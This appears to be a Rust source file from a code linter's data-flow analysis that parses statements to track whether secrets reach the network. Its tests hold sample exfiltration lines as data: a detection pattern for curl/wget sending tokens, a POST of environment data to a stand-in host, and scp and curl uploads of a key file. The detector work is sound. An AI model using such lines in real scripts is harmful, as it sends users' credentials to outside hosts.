//! Statements as the analysis reads them: code without comments, the names read, the strings,
//! and what a statement assigns.

use crate::lint::exec::ascii_regex;
use std::sync::LazyLock;

use crate::lint::rx::Regex;

use std::cell::OnceCell;

use super::*;

/// A statement, prepared once: its byte range in the unit, its code without comments, the
/// variables it reads, its words and its string literals.
#[derive(Debug)]
pub struct Stmt {
    pub start: usize,
    pub end: usize,
    pub code: String,
    pub refs: Vec<String>,
    pub words: Vec<String>,
    pub strings: Vec<String>,
    /// The names it assigns, and the byte offset in `code` where the assigned value starts.
    pub assigns: Vec<String>,
    pub rhs_at: usize,
    /// Refs passed as a child process's environment (`env=…`) or as an ssh client's identity
    /// file ([`identity_only`]): not sent anywhere by that.
    pub env_args: Vec<String>,
    /// Column of its first token (Python blocks), and braces opened minus closed.
    pub indent: usize,
    pub braces: i32,
    /// What the propagation passes read of it alone, found on the first pass that asks.
    pub(super) memo: Memo,
}

/// The answers about one statement that depend on its code only, kept across the propagation
/// passes (each pass used to search the same regexes in the same code again).
#[derive(Debug, Default)]
pub(super) struct Memo {
    /// [`plain_source`] and [`named_env`] of its value (`[0]`) and of its whole code (`[1]`).
    pub(super) plain: [OnceCell<Option<Source>>; 2],
    pub(super) env: [OnceCell<Option<Source>>; 2],
    /// The credential store its string pieces, joined as a path, name.
    pub(super) joined: OnceCell<Option<Source>>,
    /// Whether it decodes ([`DECODE`]).
    pub(super) decodes: OnceCell<bool>,
    /// Whether it or its value reaches the network ([`NET_SINK`]).
    pub(super) sends: OnceCell<bool>,
    pub(super) value_sends: OnceCell<bool>,
    /// The file it opens for writing.
    pub(super) opened: OnceCell<Option<String>>,
    /// The location its value names by itself (not through other names).
    pub(super) location: OnceCell<Option<Loc>>,
}

/// Strips the quotes (and a Python prefix) of a string literal.
pub(super) fn literal(raw: &str) -> &str {
    let q = raw.as_bytes().first().copied().unwrap_or(b'"');
    let triple = raw.len() >= 6 && raw.as_bytes().iter().take(3).all(|b| *b == q);
    let cut = if triple { 3 } else { 1 };
    let body = raw.get(cut..).unwrap_or("");
    let end = body.len().saturating_sub(
        body.as_bytes()
            .iter()
            .rev()
            .take(cut)
            .take_while(|b| **b == q)
            .count(),
    );
    body.get(..end).unwrap_or(body)
}

/// Names an interpolating string reads: `$name`, `${name}`, `#{name}`, and words inside `{…}`.
pub(super) fn interpolated(body: &str, lang: Lang, refs: &mut Vec<String>) {
    let bytes = body.as_bytes();
    let mut i = 0;
    let mut braces = 0usize;
    while i < bytes.len() {
        let b = bytes[i];
        if b == b'{' {
            braces += 1;
        } else if b == b'}' {
            braces = braces.saturating_sub(1);
        }
        // A shell function's positional parameter (`"$1"`, `"${2}"`, `"$@"`).
        let positional = lang == Lang::Shell
            && (b.is_ascii_digit() || b == b'@' || b == b'*')
            && (i > 0 && bytes[i - 1] == b'$'
                || i > 1 && bytes[i - 1] == b'{' && bytes[i - 2] == b'$');
        if positional {
            refs.push(body[i..=i].to_owned());
            i += 1;
            continue;
        }
        let word_start = b.is_ascii_alphabetic() || b == b'_';
        let prev_ok = i == 0 || !(bytes[i - 1].is_ascii_alphanumeric() || bytes[i - 1] == b'_');
        if word_start && prev_ok {
            let mut j = i;
            while j < bytes.len()
                && (bytes[j].is_ascii_alphanumeric() || bytes[j] == b'_' || bytes[j] == b':')
            {
                j += 1;
            }
            let dollar = i > 0 && bytes[i - 1] == b'$'
                || i > 1 && bytes[i - 1] == b'{' && matches!(bytes[i - 2], b'$' | b'#');
            let in_code = braces > 0 && matches!(lang, Lang::Python | Lang::Js);
            if dollar || in_code {
                refs.push(body[i..j].trim_end_matches(':').to_owned());
            }
            i = j;
            continue;
        }
        i += 1;
    }
}

/// Most names and strings kept per statement.
pub(super) const MAX_NAMES: usize = 64;
/// Longest constant text followed.
pub(super) const MAX_CONST: usize = 4096;
/// Most functions followed per file.
pub(super) const MAX_FUNCS: usize = 256;

pub(super) const ASSIGN_KEYWORDS: &[&str] = &[
    "const", "let", "var", "export", "local", "readonly", "declare", "typeset", "my", "our",
    "global", "static", "final", "auto", "val",
];

/// Whether the code before a string literal hands it, as the first argument, to a regular
/// expression's constructor or search (`re.compile(`, `new RegExp(`, `regexp.MustCompile(`).
fn compiles_pattern(before: &str) -> bool {
    // A Python string's prefix (`r"…"`, `rb'…'`) is a word of its own to the tokenizer.
    let before = before
        .trim_end_matches(['r', 'R', 'b', 'B', 'u', 'U'])
        .trim_end();
    let Some(call) = before.strip_suffix('(') else {
        return false;
    };
    let call = call.trim_end();
    [
        "re.compile",
        "re.search",
        "re.match",
        "re.fullmatch",
        "re.findall",
        "re.finditer",
        "re.sub",
        "re.subn",
        "re.split",
        "regex.compile",
        "RegExp",
        "Regex",
        "Regex::new",
        "regexp.MustCompile",
        "regexp.Compile",
        "Pattern.compile",
    ]
    .iter()
    .any(|f| {
        call.strip_suffix(f).is_some_and(|rest| {
            !rest
                .chars()
                .next_back()
                .is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.')
        })
    })
}

/// Prepares the statement `toks` of `text`.
pub fn prepare(text: &str, toks: &[Token], lang: Lang) -> Option<Stmt> {
    let first = toks.iter().find(|t| t.kind != Kind::Comment)?;
    let last = toks.iter().rev().find(|t| t.kind != Kind::Comment)?;
    let (start, end) = (first.start, last.end);
    let mut code = String::with_capacity(end - start);
    let mut at = start;
    let mut refs = Vec::new();
    let mut words = Vec::new();
    let mut strings = Vec::new();
    let mut braces = 0;
    for tok in toks {
        if tok.kind == Kind::Comment {
            code.push_str(&text[at.min(tok.start)..tok.start]);
            code.extend(std::iter::repeat_n(' ', tok.end - tok.start));
            at = tok.end;
            continue;
        }
        let s = &text[tok.start..tok.end];
        if matches!(tok.kind, Kind::Str { .. })
            && s.len() > 2
            && compiles_pattern(&text[start..tok.start])
        {
            // A regular expression's pattern is what a search looks for, not a command, an
            // address or a secret: its body is blanked, as a comment is.
            code.push_str(&text[at.min(tok.start)..tok.start]);
            // (Quotes are ASCII: both cuts fall on character boundaries.)
            let body_start = s.find(['"', '\'', '`']).map_or(0, |q| q + 1);
            let body_end = if s.ends_with(['"', '\'', '`']) {
                s.len() - 1
            } else {
                s.len()
            }
            .max(body_start);
            code.push_str(&s[..body_start]);
            code.extend(std::iter::repeat_n(' ', body_end - body_start));
            code.push_str(&s[body_end..]);
            at = tok.end;
            continue;
        }
        match tok.kind {
            Kind::Word { var } => {
                if var {
                    refs.push(s.to_owned());
                }
                words.push(s.to_owned());
            }
            Kind::Str { interp } => {
                let body = literal(s);
                if interp {
                    interpolated(body, lang, &mut refs);
                }
                strings.push(body.to_owned());
            }
            Kind::Punct(b'{') => braces += 1,
            Kind::Punct(b'}') => braces -= 1,
            _ => {}
        }
    }
    if at < end {
        code.push_str(&text[at..end]);
    }
    // Bounded work per statement whatever its length: the names and strings that matter come
    // first in real code.
    refs.truncate(MAX_NAMES);
    words.truncate(MAX_NAMES);
    strings.truncate(MAX_NAMES);
    let indent = text[..start].rfind('\n').map_or(start, |nl| start - nl - 1);
    let (assigns, rhs_at) = assignment(text, toks, lang, start);
    let mut env_args = env_arguments(&code);
    env_args.extend(refs.iter().filter(|r| identity_only(&code, r)).cloned());
    Some(Stmt {
        start,
        end,
        code,
        refs,
        words,
        strings,
        assigns,
        rhs_at,
        env_args,
        indent,
        braces,
        memo: Memo::default(),
    })
}

pub(super) static ENV_ARG: LazyLock<Regex> =
    LazyLock::new(|| ascii_regex(r"\b(env|environ|extra_env)\s*[=:]\s*\$?\{?\s*(\*\*)?\$?(\w+)"));

pub(super) fn env_arguments(code: &str) -> Vec<String> {
    ENV_ARG
        .captures_iter(code)
        .map(|c| c[3].to_owned())
        .collect()
}

/// Whether every use of `name` in `code` is the identity file of an ssh client (`ssh -i
/// "$KEY"`, `scp -i $KEY`, `rsync -e "ssh -i $KEY"`, `-o IdentityFile=$KEY`, `["ssh", "-i",
/// key]`): the key is used to log in, not sent. `scp -i "$KEY" "$KEY" host:` also copies it.
pub fn identity_only(code: &str, name: &str) -> bool {
    if !(code.contains("ssh") || code.contains("scp") || code.contains("sftp")) {
        return false;
    }
    let mut seen = false;
    for at in word_at(code, name) {
        let before = &code[..at];
        seen = true;
        let option = before.trim_end_matches(['$', '{', '"', '\'', ' ', '\t', ',', '[', '(']);
        let identity = option.ends_with("IdentityFile=")
            || option.ends_with("IdentityFile")
            || option
                .strip_suffix("-i")
                .is_some_and(|head| head.ends_with([' ', '\t', '"', '\'', '[', '(', ',']));
        if !identity {
            return false;
        }
    }
    seen
}

/// Where `word` stands in `text` as a whole word (no letter, digit or `_` on either side).
pub(super) fn word_at<'a>(text: &'a str, word: &'a str) -> impl Iterator<Item = usize> + 'a {
    let part = |c: char| c.is_alphanumeric() || c == '_';
    text.match_indices(word).filter_map(move |(at, _)| {
        let before = text[..at].chars().next_back();
        let after = text[at + word.len()..].chars().next();
        (!before.is_some_and(part) && !after.is_some_and(part)).then_some(at)
    })
}

/// What the body of a loop or condition on one line assigns: `for (…) { $bmp.SetPixel(…) }`.
fn block_body(text: &str, toks: &[Token], lang: Lang, base: usize) -> (Vec<String>, usize) {
    let mut depth = 0usize;
    for (i, t) in toks.iter().enumerate() {
        match t.kind {
            Kind::Punct(b'(' | b'[') => depth += 1,
            Kind::Punct(b')' | b']') => depth = depth.saturating_sub(1),
            Kind::Punct(b'{') if depth == 0 => {
                let body = &toks[i + 1..];
                let first = body.iter().find(|t| t.kind != Kind::Comment);
                // Not another loop or condition: one level is what one line holds.
                return match first.map(|t| &text[t.start..t.end]) {
                    Some("for" | "foreach" | "while" | "if" | "elseif" | "else") | None => {
                        (Vec::new(), 0)
                    }
                    Some(_) => assignment(text, body, lang, base),
                };
            }
            _ => {}
        }
    }
    (Vec::new(), 0)
}

/// The names a statement assigns (`x = …`, `const x = …`, `export X=…`, `$x = …`, `for x in …`,
/// `with … as x`, `x.append(…)`, `x[k] = …`, `read X`), and where the value starts in its code.
pub(super) fn assignment(
    text: &str,
    toks: &[Token],
    lang: Lang,
    base: usize,
) -> (Vec<String>, usize) {
    let code: Vec<&Token> = toks.iter().filter(|t| t.kind != Kind::Comment).collect();
    let word = |t: &Token| match t.kind {
        Kind::Word { .. } => Some(&text[t.start..t.end]),
        _ => None,
    };
    let mut k = 0;
    while k + 1 < code.len()
        && word(code[k]).is_some_and(|w| ASSIGN_KEYWORDS.contains(&w))
        && word(code[k + 1]).is_some()
    {
        k += 1;
    }
    // `for x in …` / `for (const x of …)` / `foreach ($x in …)`.
    if let Some(w) = code.first().and_then(|t| word(t))
        && matches!(w, "for" | "foreach")
    {
        let mut names = Vec::new();
        for (i, t) in code.iter().enumerate().skip(1) {
            match word(t) {
                Some("in" | "of") => {
                    let at = code.get(i + 1).map_or(t.end, |n| n.start);
                    return (names, at - base);
                }
                Some(w) if !ASSIGN_KEYWORDS.contains(&w) => names.push(w.to_owned()),
                _ => {}
            }
        }
        return block_body(text, toks, lang, base);
    }
    if let Some(w) = code.first().and_then(|t| word(t))
        && matches!(w, "while" | "if" | "elseif" | "else")
    {
        return block_body(text, toks, lang, base);
    }
    // `with open(p) as f:`
    if let Some(i) = code.iter().position(|t| word(t) == Some("as"))
        && code.first().and_then(|t| word(t)) == Some("with")
        && let Some(name) = code.get(i + 1).and_then(|t| word(t))
    {
        return (vec![name.to_owned()], code[0].end - base);
    }
    // `read X < file`, `read -r -s -p "Password: " X`: the name is the last word before a
    // redirection, not an option (`-s` lexes as `-` and `s`) nor an option's value.
    if lang == Lang::Shell && code.get(k).and_then(|t| word(t)) == Some("read") {
        let args = &code[k + 1..];
        let end = args
            .iter()
            .position(|t| matches!(t.kind, Kind::Punct(b'<' | b'>' | b'|' | b';' | b'&')))
            .unwrap_or(args.len());
        let names = args[..end]
            .iter()
            .enumerate()
            .filter(|(i, t)| {
                let option =
                    *i > 0 && args[i - 1].kind == Kind::Punct(b'-') && args[i - 1].end == t.start;
                !option
            })
            .filter_map(|(_, t)| word(t))
            .rfind(|w| !w.starts_with('-'))
            .map(str::to_owned)
            .into_iter()
            .collect();
        return (names, code[k].end - base);
    }
    // `lhs = rhs`: the lhs is words, `.`, `,`, `[…]` (any keys), `:` (annotations), `$`.
    let mut names = Vec::new();
    let mut expect_name = true;
    let mut depth = 0usize;
    for (i, t) in code.iter().enumerate().skip(k) {
        match t.kind {
            Kind::Word { .. } if expect_name && depth == 0 => {
                names.push(text[t.start..t.end].to_owned());
                expect_name = false;
            }
            Kind::Word { .. } | Kind::Str { .. } => {}
            Kind::Punct(b'=') => {
                let next = code.get(i + 1).map(|n| n.kind);
                let prev = i.checked_sub(1).map(|p| code[p].kind);
                let adjacent_prev = i > 0 && code[i - 1].end == t.start;
                let regex_match = lang != Lang::Shell && matches!(next, Some(Kind::Punct(b'~')));
                let compare = regex_match
                    || matches!(next, Some(Kind::Punct(b'=' | b'>')))
                    || (adjacent_prev
                        && matches!(prev, Some(Kind::Punct(b'=' | b'!' | b'<' | b'>'))));
                if compare || names.is_empty() || depth > 0 {
                    return (Vec::new(), 0);
                }
                let at = code.get(i + 1).map_or(t.end, |n| n.start);
                return (names, at - base);
            }
            Kind::Punct(b',') if depth == 0 => expect_name = true,
            // A subscript's keys, whatever they are: `px[i % w, i // w] = …`.
            Kind::Punct(p) if depth > 0 && !matches!(p, b'[' | b']' | b'=') => {}
            Kind::Newline if depth > 0 => {}
            Kind::Punct(b'[') => depth += 1,
            Kind::Punct(b']') => depth = depth.saturating_sub(1),
            Kind::Punct(
                b'.' | b':' | b'$' | b'+' | b'-' | b'*' | b'|' | b'?' | b'@' | b'(' | b')',
            ) => {
                // `x.y(…)`: a method call on x with the rest as its value.
                if matches!(t.kind, Kind::Punct(b'(')) && depth == 0 {
                    let method = i >= 2 && matches!(code[i - 2].kind, Kind::Punct(b'.'));
                    if method && !names.is_empty() {
                        return (names[..1].to_vec(), t.end - base);
                    }
                    return (Vec::new(), 0);
                }
            }
            _ => return (Vec::new(), 0),
        }
    }
    (Vec::new(), 0)
}

/// Python functions' names are their own: a parameter or a variable a function assigns is
/// local to it, as Python makes it (the engine follows names, not scopes, so `fh` of a `.env`
/// loader would otherwise be `fh` of every other function that opens a file). Each such name
/// is renamed `function::name` in the function's header and in the statements indented under
/// it; a name a function only reads is the enclosing function's, or the file's.
pub fn scope_locals(stmts: &mut [Stmt]) {
    // The functions: header, indent, name, parameters, end (exclusive).
    let mut funcs: Vec<(usize, usize, String, Vec<String>, usize)> = Vec::new();
    for (i, s) in stmts.iter().enumerate() {
        if let Some((name, params)) = def_header(&s.code) {
            let end = (i + 1..stmts.len())
                .find(|&j| stmts[j].indent <= s.indent)
                .unwrap_or(stmts.len());
            funcs.push((i, s.indent, name, params, end));
        }
    }
    if funcs.is_empty() {
        return;
    }
    // The innermost function each statement is in (its header belongs to it too).
    let owner = |i: usize| {
        funcs
            .iter()
            .enumerate()
            .filter(|(_, (h, _, _, _, end))| *h <= i && i < *end)
            .max_by_key(|(_, (h, ..))| *h)
            .map(|(k, _)| k)
    };
    let enclosing = |k: usize| {
        let (h, ..) = funcs[k];
        funcs
            .iter()
            .enumerate()
            .filter(|(_, (h2, _, _, _, end))| *h2 < h && h < *end)
            .max_by_key(|(_, (h2, ..))| *h2)
            .map(|(k2, _)| k2)
    };
    let owners: Vec<Option<usize>> = (0..stmts.len()).map(owner).collect();
    let mut locals: Vec<Vec<String>> = funcs.iter().map(|f| f.3.clone()).collect();
    for (i, s) in stmts.iter().enumerate() {
        if let Some(k) = owners[i]
            && funcs[k].0 != i
        {
            let declared = s.code.trim_start();
            if declared.starts_with("global ") || declared.starts_with("nonlocal ") {
                continue;
            }
            for name in &s.assigns {
                if !locals[k].contains(name) && !name.contains('.') {
                    locals[k].push(name.clone());
                }
            }
        }
    }
    for (i, s) in stmts.iter_mut().enumerate() {
        let Some(mut k) = owners[i] else { continue };
        let mut chain = vec![k];
        while let Some(outer) = enclosing(k) {
            chain.push(outer);
            k = outer;
        }
        let scoped = |name: &mut String| {
            if let Some(&f) = chain.iter().find(|&&f| locals[f].contains(name)) {
                *name = format!("{}::{name}", funcs[f].2);
            }
        };
        s.refs.iter_mut().for_each(scoped);
        s.assigns.iter_mut().for_each(scoped);
        s.env_args.iter_mut().for_each(scoped);
    }
}

/// The name and parameters of a Python `def` header (`async def f(a, b=1, *args, **kw) -> T:`).
fn def_header(code: &str) -> Option<(String, Vec<String>)> {
    let t = code.trim_start();
    let t = t.strip_prefix("async ").map_or(t, str::trim_start);
    let rest = t.strip_prefix("def ")?.trim_start();
    let open = rest.find('(')?;
    let name = rest[..open].trim();
    if name.is_empty() || !name.chars().all(|c| c.is_alphanumeric() || c == '_') {
        return None;
    }
    let mut depth = 0usize;
    let mut params = Vec::new();
    let mut current = String::new();
    for c in rest[open + 1..].chars() {
        match c {
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' if depth == 0 => break,
            ')' | ']' | '}' => depth -= 1,
            ',' if depth == 0 => {
                params.push(std::mem::take(&mut current));
                continue;
            }
            _ => {}
        }
        current.push(c);
    }
    params.push(current);
    let params = params
        .iter()
        .filter_map(|p| {
            let p = p.trim().trim_start_matches('*');
            let end = p.find([':', '=', ' ']).unwrap_or(p.len());
            let p = &p[..end];
            (!p.is_empty() && p != "self" && p != "cls" && p != "/").then(|| p.to_owned())
        })
        .collect();
    Some((name.to_owned(), params))
}

#[cfg(test)]
mod tests {
    use super::identity_only;

    #[test]
    fn a_regular_expressions_pattern_is_blanked() {
        use crate::lint::flow::lex::{self, Lang};
        let text = r#"EXFIL = re.compile(r"(curl|wget)\s+https?://\S+.*(env|token)", re.I)"#;
        let toks = lex::tokens(text, Lang::Python);
        let stmt = super::prepare(text, &toks, Lang::Python).unwrap();
        assert_eq!(stmt.code.len(), text.len());
        assert!(!stmt.code.contains("curl") && !stmt.code.contains("env"));
        assert!(
            stmt.code.starts_with("EXFIL = re.compile(r\"") && stmt.code.ends_with("\", re.I)")
        );
        // A search that is not a pattern's constructor keeps its string.
        let text = r#"requests.post("https://x.example/c", data=env)"#;
        let toks = lex::tokens(text, Lang::Python);
        assert!(
            super::prepare(text, &toks, Lang::Python)
                .unwrap()
                .code
                .contains("x.example")
        );
        for before in ["x = re.compile(", "new RegExp( ", "regexp.MustCompile("] {
            assert!(super::compiles_pattern(before), "{before}");
        }
        for before in ["lre.compile(", "print(", "my_re.compiler("] {
            assert!(!super::compiles_pattern(before), "{before}");
        }
    }

    #[test]
    fn a_key_given_to_ssh_is_used_not_sent() {
        for code in [
            r#"ssh -i "$KEY" deploy@site.example.org 'mkdir -p www'"#,
            r#"scp -q -i "$KEY" -r public deploy@site.example.org:www/"#,
            r#"rsync -e "ssh -i $KEY" -a public/ deploy@site.example.org:www/"#,
            r#"rsync -e "ssh -o IdentityFile=${KEY}" -a public/ host:www/"#,
            r#"subprocess.run(["ssh", "-i", KEY, host, "uptime"])"#,
        ] {
            assert!(identity_only(code, "KEY"), "{code}");
        }
        for code in [
            // The key copied as well as used.
            r#"scp -i "$KEY" "$KEY" audit@203.0.113.9:keys/"#,
            r#"rsync -e "ssh -i $KEY" "$KEY" host:"#,
            // Not an ssh client: `-i` means something else.
            r#"curl -i -F "k=@$KEY" https://x.example/"#,
            // Another name that starts the same.
            r#"ssh -i "$KEY_FILE" host; cat "$KEY""#,
            r"echo nothing here",
        ] {
            assert!(!identity_only(code, "KEY"), "{code}");
        }
    }
}
